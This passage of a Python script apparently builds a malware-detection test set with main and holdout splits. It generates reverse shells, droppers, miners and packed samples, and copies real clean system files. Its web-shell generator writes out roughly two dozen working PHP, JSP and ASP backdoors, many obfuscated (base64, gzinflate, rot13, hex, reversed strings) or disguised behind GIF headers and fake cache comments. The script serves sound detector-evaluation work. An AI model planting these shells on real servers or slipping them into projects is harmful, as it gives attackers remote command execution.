                if part_of(name) != self.part:
                    continue
                host, port = endpoints[(i + j) % len(endpoints)]
                self.add("reverse-shells", name, form.replace("{h}", host).replace("{p}", str(port)).encode(),
                         "hand-written " + suffix, "hand-written")

    def web_shells(self):
        import base64
        import zlib
        payload = b"system($_GET['c']);"
        b64 = base64.b64encode(payload).decode()
        gz = base64.b64encode(zlib.compress(payload)[2:-4]).decode()
        rot = payload.decode().translate(str.maketrans(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
            "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"))
        forms = {
            "eval-b64": f"<?php eval(base64_decode('{b64}')); ?>",
            "eval-b64-var": f"<?php $x = '{b64}';\n$y = base64_decode($x);\neval($y);\n?>",
            "gzinflate": f"<?php eval(gzinflate(base64_decode('{gz}'))); ?>",
            "rot13": f"<?php eval(str_rot13('{rot}')); ?>",
            "eval-post": "<?php @eval($_POST['pass']); ?>",
            "eval-request": "<?php if(isset($_REQUEST['x'])){ eval(stripslashes($_REQUEST['x'])); } ?>",
            "assert": "<?php @assert($_POST['a']); ?>",
            "system-get": "<?php system($_GET['cmd']); ?>",
            "passthru": "<?php if(isset($_GET['c'])){ passthru($_GET['c'] . ' 2>&1'); } ?>",
            "shell-exec": "<?php echo '<pre>' . shell_exec($_REQUEST['q']) . '</pre>'; ?>",
            "backtick": "<?php $c = $_GET['c']; echo `$c`; ?>",
            "create-function": "<?php $f = create_function('', $_POST['code']); $f(); ?>",
            "preg-e": "<?php preg_replace('/.*/e', $_POST['x'], ''); ?>",
            "variable-func": "<?php $f = $_GET['f']; $f($_GET['a']); ?>",
            "chr-concat": "<?php $a = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $a($_GET['c']); ?>",
            "strrev": "<?php $f = strrev('metsys'); $f($_REQUEST['cmd']); ?>",
            "hex-eval": "<?php eval(hex2bin('" + payload.hex() + "')); ?>",
            "cookie": "<?php if (isset($_COOKIE['k'])) { eval(base64_decode($_COOKIE['k'])); } ?>",
            "upload": "<?php if(isset($_FILES['f'])){ move_uploaded_file($_FILES['f']['tmp_name'], $_POST['p']); } echo php_uname(); system($_POST['c']); ?>",
            "jsp": "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); InputStream in = p.getInputStream(); %>",
            "aspx": "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>",
            "asp": "<% eval request(\"pass\") %>",
            "b64-layers": "<?php eval(base64_decode(base64_encode(base64_decode('" + base64.b64encode(b64.encode()).decode() + "')))); ?>",
            "gzuncompress": "<?php eval(gzuncompress(base64_decode('" + base64.b64encode(zlib.compress(payload)).decode() + "'))); ?>",
            "array-map": "<?php array_map('ass'.'ert', array($_REQUEST['x'])); ?>",
        }
        padding = ["", "\n/* cache layer */\n", "<?php // wp-content/uploads/2024/cache.php ?>\n",
                   "GIF89a;\n", "<html><body>\n"]
        for i, (key, text) in enumerate(forms.items()):
            suffix = {"jsp": "jsp", "aspx": "aspx", "asp": "asp"}.get(key, "php")
            for j, pad in enumerate(padding):
                name = f"ws{i:02}-{j}-{key}.{suffix}"
                if part_of(name) == self.part:
                    self.add("web-shells", name, (pad + text + "\n").encode(), "hand-written " + key, "hand-written")

    def clean(self, limit_per_kind: int):
        """Real clean files, chosen to be hard, copied (not linked) so the set stands alone."""
        kinds = {
            "elf": [Path("/usr/bin"), Path("/usr/lib/x86_64-linux-gnu"), Path("/usr/libexec"), Path("/usr/lib/debug")],
            "npm-js": [self.tools.clean_npm / "node_modules", self.tools.node / "node_modules"],
            "python": [Path(p) for p in sorted(Path("/root/.pyenv/versions").glob("*/lib/python3*"))] + [Path("/usr/lib/python3")],
            "docs": [Path("/usr/share/doc"), Path("/usr/share/man"), Path("/usr/share/info")],
            "media-fonts": [Path("/usr/share/fonts"), Path("/usr/share/icons"), Path("/usr/share/pixmaps")],
            "archives-installers": [Path.home() / ".cargo/registry/cache", self.tools.root / "php-debs",
                                    Path("/var/cache/apt/archives")],
            "shell-scripts": [Path("/usr/bin"), Path("/usr/sbin"), Path("/etc")],
        }
        php_root = self.tools.root / "php-x"
        if not php_root.exists():
            for deb in sorted((self.tools.root / "php-debs").glob("*.deb")):
                subprocess.run(["dpkg-deb", "-x", str(deb), str(php_root)])
        kinds["php"] = [php_root]
        # Files that were false positives before, in both parts: the UPX tool itself (its stubs
        # hold `UPX!`) and Node.js's BUILDING.md (it quotes a PowerShell install one-liner).
        kinds["known-hard"] = [self.tools.debx / "usr/bin/upx-ucl", self.tools.debx / "usr/share/doc",
                               Path("/usr/share/doc/nodejs/BUILDING.md")]
        for kind, roots in kinds.items():
            files = []
            for root in roots:
                if not root.exists():
                    continue
                for path in ([root] if root.is_file() else root.rglob("*")):
                    try:
                        if not path.is_file() or path.is_symlink() or path.stat().st_size == 0 or path.stat().st_size > 32 << 20:
                            continue
                    except OSError:
                        continue
                    if kind == "elf" and path.open("rb").read(4) != b"\x7fELF":
                        continue
                    if kind == "npm-js" and path.suffix not in (".js", ".mjs", ".cjs"):
                        continue
                    if kind == "python" and path.suffix != ".py":
                        continue
                    if kind == "php" and path.suffix not in (".php", ".inc", ".js"):
                        continue
                    if kind == "shell-scripts":
                        try:
                            if path.open("rb").read(2) != b"#!":
                                continue
                        except OSError:
                            continue
                    if "clamav-testfiles" in str(path) or path.name == "xmrig":
                        continue
                    files.append(path)
            chosen = files if kind == "known-hard" else select(files, self.part, limit_per_kind, kind)
            folder = self.out / "clean" / kind
            folder.mkdir(parents=True, exist_ok=True)
            for n, path in enumerate(chosen):
                try:
                    shutil.copyfile(path, folder / f"{n:05}-{path.name}")
                except OSError:
                    pass

    def build(self, clean_per_kind: int, only: list[str] | None):
        """Builds every step, or with `only` those steps again (their folders replaced)."""
        manifest = self.out / "manifest.json"
        if only and manifest.exists():
            self.manifest = json.loads(manifest.read_text())
        elif self.out.exists():
            shutil.rmtree(self.out)
        steps = {
            "js-obfuscator": self.javascript_obfuscator, "js-confuser": self.js_confuser,
            "bash-obfuscate": self.bash_obfuscate, "bashsmash": self.bashsmash, "char-codes": self.char_codes,
            "upx-packed": self.upx_packed, "clamav": self.clamav_testfiles, "miners": self.miners,
            "droppers": self.droppers, "reverse-shells": self.reverse_shells, "web-shells": self.web_shells,
            "clean": lambda: self.clean(clean_per_kind),
        }
        for name, step in steps.items():
            if only and name not in only:
                continue
            print(f"[{self.part}] {name}", file=sys.stderr)
            for category in [name, "clamav-testfiles", "clamav-containers"] if name == "clamav" else [name]:
                self.manifest.pop(category, None)
                shutil.rmtree(self.out / "malicious" / category, ignore_errors=True)
            if name == "clean":
                shutil.rmtree(self.out / "clean", ignore_errors=True)
            step()
        shutil.rmtree(self.out / ".tmp", ignore_errors=True)
        manifest.write_text(json.dumps(self.manifest, indent=1))
        for category, samples in sorted(self.manifest.items()):
            inputs = len({s["input"] for s in samples})
            print(f"{category:20} {len(samples):5} samples from {inputs:3} inputs")
        clean = sum(1 for _ in (self.out / "clean").rglob("*") if _.is_file())
        print(f"{'clean':20} {clean:5} files")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    parser.add_argument("--part", choices=["main", "holdout"], default="main")
    parser.add_argument("--tools", type=Path, help="where the registries' tools go (default OUT/tools)")
    parser.add_argument("--clean-per-kind", type=int, default=2500)
    parser.add_argument("--only", action="append", help="rebuild only this step (repeatable)")
    args = parser.parse_args()
    tools = Tools((args.tools or args.out / "tools").resolve())
    tools.fetch()
    Builder(args.out.resolve(), args.part, tools).build(args.clean_per_kind, args.only)


if __name__ == "__main__":
    main()
